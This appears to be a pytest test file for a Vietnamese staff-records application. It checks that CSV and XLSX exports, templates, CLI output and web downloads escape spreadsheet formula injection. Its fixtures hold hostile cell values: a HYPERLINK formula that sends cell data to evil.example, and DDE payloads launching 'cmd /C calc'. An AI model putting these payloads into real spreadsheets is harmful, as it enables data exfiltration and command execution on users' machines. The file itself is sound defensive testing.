"""No formula in any CSV or XLSX binhdang writes (issue 11, OWASP "CSV Injection").

Hostile names go in where users type them (staff names, unit names, committee records, a
sign-in form) and every output is read back: CSV with the csv module (a formula-like text
carries a leading apostrophe), XLSX with openpyxl (a typed string holding the original text,
never a formula), and the annex and the rejected rows also through LibreOffice, which would
show a formula's result instead of its text.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import Engine

from binhdang import exports
from binhdang.accounts.permissions import Role
from binhdang.accounts.service import create_account
from binhdang.ingest.templates import TemplateColumn, write_list_template
from tests.factories import STAFF_HEADER, UNIT_HEADER, staff_row, unit_row, write_table
from tests.helpers import run_cli
from tests.imports import import_staff, import_units
from tests.web.conftest import AS_OF, PASSWORD, Site, open_site, sign_in

SRC = Path(__file__).resolve().parents[1] / "src" / "binhdang"

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Xem")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
FULLWIDTH = "＝1+1"
HOSTILE = (HYPERLINK, DDE, AT, MINUS, FULLWIDTH)

# Independent of the module under test: what a spreadsheet could take for a formula.
_RAW_FORMULA = re.compile(r"^\s*[=+\-@＝＋－＠]|^[\t\r]")
_NUMBER = re.compile(r"-|[+-]?\d+(?:[.,]\d+)*%?")


def _live(field: str) -> bool:
    return bool(_RAW_FORMULA.match(field)) and not _NUMBER.fullmatch(field.strip())


def read_csv(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))


def assert_csv_safe(rows: list[list[str]], *expected: str) -> None:
    """No field could run as a formula, and each ``expected`` text is there behind a quote."""
    fields = [field for row in rows for field in row]
    assert [f for f in fields if _live(f)] == []
    for text in expected:
        assert "'" + text in fields, text


def xlsx_cells(path: Path) -> list[Cell]:
    workbook = load_workbook(path)
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_xlsx_safe(path: Path, *expected: str) -> list[Cell]:
    """No formula, no hyperlink, no defined name; each ``expected`` text as a typed string."""
    workbook = load_workbook(path)
    cells = xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.coordinate for c in cells if c.hyperlink is not None] == []
    assert list(workbook.defined_names) == []
    assert [n for sheet in workbook for n in sheet.defined_names] == []
    assert [s.title for s in workbook if _live(s.title)] == []
    strings = {c.value for c in cells if c.data_type == "s"}
    for text in expected:
        assert text in strings, text  # the original text, no apostrophe added
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
    return cells


# --- the rule -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        *HOSTILE,
        "=1+1",
        "+1+1",
        "-21-21",
        "@x",
        "\tx",
        "\r=1",
        " =1+1",
        "\n@SUM(A1)",
        "\u3000=1",
        "＋1",
        "－1",
        "＠x",
        "=",
        "--",
        "- ghi chú",
        "+84 912 345 678",
    ],
)
def test_formula_like_texts_are_recognised(value: str) -> None:
    assert exports.is_formula_like(value)
    assert exports.csv_value(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Nguyễn Thị Hoa",
        "a=b",
        "'=1",
        "5-3",
        "-5",
        "+84",
        "-1.234,5",
        "-3.5",
        "-12%",
        "-",
        " -5",
        "QT_DONGHA",
        "2022-10-01",
    ],
)
def test_plain_texts_and_numbers_are_left_as_they_are(value: str) -> None:
    assert not exports.is_formula_like(value)
    assert exports.csv_value(value) == value


def test_csv_keeps_numbers_dates_and_booleans() -> None:
    values = [-5, 3.5, Decimal("-1.5"), date(2022, 10, 1), True, None]
    assert exports.csv_row(values) == values
    buffer = io.StringIO()
    exports.csv_writer(buffer).writerows(
        [["name", "count"], [HYPERLINK, -5], [MINUS, Decimal("-1.5")]]
    )
    assert read_csv(buffer.getvalue()) == [
        ["name", "count"],
        ["'" + HYPERLINK, "-5"],
        ["'" + MINUS, "-1.5"],
    ]


def test_xlsx_text_is_a_typed_string_and_numbers_stay_numbers(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    exports.append(sheet, [*HOSTILE, "#N/A", "Nguyễn Thị Hoa"])
    exports.append(sheet, [-5, 3.5, Decimal("-1.5"), date(2022, 10, 1), True, None, "-5"])
    exports.put(sheet, 3, 1, "=1+1")
    workbook.save(tmp_path / "x.xlsx")
    sheet = load_workbook(tmp_path / "x.xlsx").active
    first = list(sheet[1])
    assert [(c.value, c.data_type) for c in first] == [
        (v, "s") for v in (*HOSTILE, "#N/A", "Nguyễn Thị Hoa")
    ]
    # Excel's flag for a text typed after an apostrophe: editing the cell keeps it text
    assert [c.quotePrefix for c in first] == [True] * 5 + [False, False]
    numbers = [(c.value, c.data_type) for c in sheet[2]]
    assert numbers[:3] == [(-5, "n"), (3.5, "n"), (-1.5, "n")]
    assert numbers[3][1] == "d" and numbers[4] == (True, "b") and numbers[6] == ("-5", "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")


def test_list_templates_write_labels_choices_and_examples_as_text(tmp_path: Path) -> None:
    columns = [
        TemplateColumn(HYPERLINK, required=True),
        TemplateColumn("Loại", choices=tuple(f"{DDE} {n}," for n in range(40))),
    ]
    path = write_list_template(tmp_path / "t.xlsx", "Mẫu", columns, [[AT, MINUS]])
    assert_xlsx_safe(path, HYPERLINK, AT, MINUS, f"{DDE} 0,")


# --- every writer goes through binhdang.exports ----------------------------------------------


def writers_bypassing_exports(source: str) -> list[str]:
    """Calls that would write a CSV or XLSX cell without :mod:`binhdang.exports`."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name, owner = node.func.attr, node.func.value
            owner_name = owner.id if isinstance(owner, ast.Name) else getattr(owner, "attr", "")
            if owner_name == "csv" and name in ("writer", "DictWriter"):
                found.append(f"line {node.lineno}: csv.{name}")
            elif name == "append" and "sheet" in owner_name.lower():
                found.append(f"line {node.lineno}: {owner_name}.append")
            elif name == "cell" and (
                len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)
            ):
                found.append(f"line {node.lineno}: .cell(…, value)")
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"line {node.lineno}: .value =")
    return found


def test_the_guard_sees_a_writer_that_bypasses_exports() -> None:
    source = (
        "w = csv.writer(h)\nsheet.append([x])\nws.cell(1, 2, x)\nws.cell(row=1, column=2, value=x)\n"
        "c.value = x\nws.cell(1, 2)\n"
    )
    assert len(writers_bypassing_exports(source)) == 5


def test_every_csv_and_xlsx_writer_goes_through_exports() -> None:
    """Only exports.py makes a csv.writer or sets a cell's value; ingest/reader.py only reads."""
    bypassing = {}
    for path in sorted(SRC.rglob("*.py")):
        if path.name == "exports.py" or path.relative_to(SRC).as_posix() == "ingest/reader.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "csv" not in source and "openpyxl" not in source:
            continue
        if found := writers_bypassing_exports(source):
            bypassing[path.relative_to(SRC).as_posix()] = found
    assert bypassing == {}


# --- the CLI's outputs, on both engines -----------------------------------------------------

UNITS = [
    unit_row("ROOT", HYPERLINK, "", "Cơ quan"),
    unit_row("A", DDE, "ROOT"),
    unit_row("B", MINUS, "ROOT"),
]
STAFF = [
    staff_row("P0", name=HYPERLINK, sex="Nam", unit="B"),
    # a woman head of unit near retirement: her name is in the retirement sheets of the annex
    staff_row("P1", name=DDE, sex="Nữ", born="15/03/1967", unit="A", position="Trưởng phòng",
              level="Cấp trưởng", rank=AT),
    staff_row("P2", name=AT, sex="Nữ", unit="A"),
    staff_row("P3", name=MINUS, sex="Nam", unit="B"),
    staff_row("P4", name=FULLWIDTH, sex="Nữ", unit="ROOT"),
]  # fmt: skip
BAD_ROWS = [staff_row("BAD1", name=HYPERLINK, sex="X"), staff_row("BAD2", name=AT, born="99/99")]


def write_xlsx_as_typed(path: Path, header: Sequence[str], rows: Sequence[Sequence[str]]) -> Path:
    """An XLSX whose cells are text, as Excel stores what a user types after an apostrophe."""
    workbook = Workbook()
    sheet = workbook.active
    for line in [header, *rows]:
        sheet.append(list(line))
    for row in sheet.iter_rows():
        for cell in row:
            cell.data_type = "s" if cell.value is not None else cell.data_type
    workbook.save(path)
    return path


@pytest.fixture
def hostile_files(tmp_path: Path) -> dict[str, Path]:
    return {
        "units": write_table(tmp_path / "units.csv", UNIT_HEADER, UNITS),
        "staff_csv": write_table(tmp_path / "staff.csv", STAFF_HEADER, STAFF + BAD_ROWS),
        "staff_xlsx": write_xlsx_as_typed(tmp_path / "staff.xlsx", STAFF_HEADER, STAFF + BAD_ROWS),
    }


def test_cli_outputs_carry_no_formula(
    capsys: pytest.CaptureFixture[str],
    db_url: str,
    tmp_path: Path,
    hostile_files: dict[str, Path],
) -> None:
    def cli(*args: str) -> str:
        result = run_cli(capsys, *args, "--db", db_url)
        assert result.code == 0, result.err
        return result.out

    cli("import", "units", str(hostile_files["units"]), "--as-of", "01/01/2022")
    cli(
        "import",
        "staff",
        str(hostile_files["staff_csv"]),
        "--as-of",
        "01/01/2022",
        "--skip-invalid",
    )
    rejected = read_csv((tmp_path / "staff.rejected.csv").read_text(encoding="utf-8-sig"))
    assert [row[0] for row in rejected[1:]] == ["BAD1", "BAD2"]
    assert_csv_safe(rejected, HYPERLINK, AT)
    cli(
        "import",
        "staff",
        str(hostile_files["staff_xlsx"]),
        "--as-of",
        "01/01/2022",
        "--skip-invalid",
    )
    assert_xlsx_safe(tmp_path / "staff.rejected.xlsx", HYPERLINK, AT)

    indicators = read_csv(
        cli("indicators", "--unit", "ROOT", "--as-of", "01/10/2022", "--format", "csv")
    )
    assert_csv_safe(indicators, HYPERLINK, DDE, MINUS)
    assert indicators[1][7:9] == ["3", "5"]  # the counts as they were: 3 women of 5 staff

    cli(
        "plans",
        "add",
        "number=190/KH-UBND",
        "issued_on=11/10/2022",
        f"issuing_body={DDE}",
        f"title={HYPERLINK}",
        "unit_code=ROOT",
    )
    cli(
        "training",
        "add",
        "staff_code=P1",
        "course_type=Cao cấp lý luận chính trị",
        f"course_name={AT}",
        "start_on=14/03/2022",
        "status=Đang học",
    )
    assert_csv_safe(read_csv(cli("plans", "list", "--format", "csv")), HYPERLINK, DDE)
    assert_csv_safe(read_csv(cli("training", "list", "--format", "csv")), DDE, AT)
    shown = cli("plans", "indicators", "--unit", "ROOT", "--year", "2022", "--format", "csv")
    table = shown[shown.index('"Văn bản, kế hoạch năm 2022"') :]  # the table after the sentence
    assert_csv_safe(read_csv(table), HYPERLINK, DDE)

    annex = tmp_path / "annex.xlsx"
    cli(
        "report", "--unit", "ROOT", "--as-of", "01/10/2022", "--format", "xlsx", "--out", str(annex)
    )
    cells = assert_xlsx_safe(annex, HYPERLINK, DDE, MINUS)
    counts = [c for c in cells if isinstance(c.value, int) and not isinstance(c.value, bool)]
    assert counts and {c.data_type for c in counts} == {"n"}


def test_templates_carry_no_formula(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    for kind in ("units", "staff", "training", "plans", "maternity"):
        target = tmp_path / f"{kind}.xlsx"
        assert run_cli(capsys, "template", kind, "--out", str(target)).code == 0
        cells = assert_xlsx_safe(target)
        assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}


def test_libreoffice_shows_the_text_not_a_result(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, hostile_files: dict[str, Path]
) -> None:
    """LibreOffice evaluates ``=1+1`` in a CSV or an XLSX formula cell and would write ``2``."""
    if (
        shutil.which("soffice") is None
        or not Path("/usr/lib/libreoffice/program/libsclo.so").exists()
    ):
        pytest.skip("LibreOffice Calc is not installed")
    db = f"sqlite:///{tmp_path / 'lo.db'}"
    assert run_cli(capsys, "init", "--db", db).code == 0
    for args in (
        ("units", str(hostile_files["units"])),
        ("staff", str(hostile_files["staff_csv"]), "--skip-invalid"),
        ("staff", str(hostile_files["staff_xlsx"]), "--skip-invalid"),
    ):
        assert run_cli(capsys, "import", *args, "--as-of", "01/01/2022", "--db", db).code == 0
    annex = tmp_path / "annex.xlsx"
    assert (
        run_cli(
            capsys,
            "report",
            "--unit",
            "ROOT",
            "--as-of",
            "01/10/2022",
            "--format",
            "xlsx",
            "--out",
            str(annex),
            "--db",
            db,
        ).code
        == 0
    )
    probe = tmp_path / "probe.csv"
    probe.write_text("a\n=1+1\n", encoding="utf-8")  # proves LibreOffice does evaluate
    out = tmp_path / "converted"
    # 76: UTF-8; the last token -1: every sheet, each to NAME-SHEET.csv (LibreOffice ≥ 7.2)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(out),
            str(annex),
            str(tmp_path / "staff.rejected.xlsx"),
            str(tmp_path / "staff.rejected.csv"),
            str(probe),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    assert read_csv((out / "probe-probe.csv").read_text(encoding="utf-8")) == [["a"], ["2"]]
    shown = {
        path.name: [field for row in read_csv(path.read_text(encoding="utf-8")) for field in row]
        for path in out.glob("*.csv")
    }
    annex_fields = [
        f for name, fields in shown.items() if name.startswith("annex-") for f in fields
    ]
    for text in (HYPERLINK, DDE, MINUS):
        assert text in annex_fields, text
    assert HYPERLINK in shown["staff.rejected-Sheet.csv"]
    assert "'" + HYPERLINK in shown["staff.rejected-staff.rejected.csv"]


# --- the web's CSV exports, on both engines -------------------------------------------------


@pytest.fixture
def web(db_url: str, engine: Engine, tmp_path: Path) -> Iterator[Site]:
    yield from open_site(db_url, engine, tmp_path, passwords=("admin",))


def test_web_csv_exports_carry_no_formula(web: Site, tmp_path: Path) -> None:
    import_units(
        web.engine,
        write_table(tmp_path / "more_units.csv", UNIT_HEADER, [unit_row("H", DDE, "ROOT")]),
    )
    import_staff(
        web.engine,
        write_table(
            tmp_path / "more_staff.csv",
            STAFF_HEADER,
            [
                staff_row("H1", name=HYPERLINK, unit="H", rank=AT),
                staff_row("H2", name=MINUS, unit="B", position=FULLWIDTH, level="Cấp phó"),
            ],
        ),
        AS_OF,
    )
    with web.engine.begin() as connection:  # an account name the rules allow: "-1-1" is -2
        create_account(
            connection,
            name="-1-1",
            role=Role.VIEWER,
            unit_code="ROOT",
            password=PASSWORD,
            now=datetime.now(UTC),
        )
    assert sign_in(web.client, HYPERLINK, "wrong-password").status_code == 401  # no login
    assert sign_in(web.client, "-1-1").status_code == 303
    web.client.cookies.clear()
    assert sign_in(web.client, "admin").status_code == 303

    staff = web.client.get("/staff.csv", params={"unit": "ROOT", "as_of": "01/10/2022"})
    assert staff.status_code == 200
    rows = read_csv(staff.content.decode("utf-8"))
    assert_csv_safe(rows, HYPERLINK, MINUS, DDE, AT, FULLWIDTH)
    assert rows[[r[0] for r in rows].index("H1")][:2] == ["H1", "'" + HYPERLINK]

    audit = web.client.get("/audit.csv")
    assert audit.status_code == 200
    rows = read_csv(audit.content.decode("utf-8"))
    assert_csv_safe(rows, HYPERLINK, "-1-1")
    actions = {(row[2], row[3]) for row in rows[1:]}
    assert ("'" + HYPERLINK, "sign_in.failed") in actions and ("'-1-1", "sign_in") in actions
